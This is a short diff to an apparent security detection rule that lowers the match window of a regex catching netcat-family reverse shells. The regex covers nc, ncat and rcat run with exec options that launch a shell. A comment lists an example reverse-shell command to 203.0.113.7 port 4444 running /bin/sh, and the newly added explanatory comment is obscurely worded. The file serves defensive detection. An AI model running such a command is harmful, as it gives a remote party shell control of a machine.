@@ -40,7 +40,8 @@ export const rule: Rule = {
     },
     {
       re: /(?<![\w-])(?:nc|ncat|netcat|nc\.(?:exe|openbsd|traditional)|ncat\.exe|rcat|rustcat)\s[^\n|;&]*(?:-\w*[ec]|--exec|--sh-exec|-[rs])\s*["'=]?\s*(?:exec\s+)?(?:\/[\w./-]*\/)?(?:(?:env|busybox)\s+)?(?:\w{0,4}sh|cmd|powershell|\$\{?SHELL|python[\d.]*)(?![\w-])/,
-      window: 300,
+      // As long as what is looked for turned round may be at most, where a name has only two letters.
+      window: 256,
       accept: isComplete,
     },
     // As a list of arguments: ["nc", "203.0.113.7", "4444", "-e", "/bin/sh"]
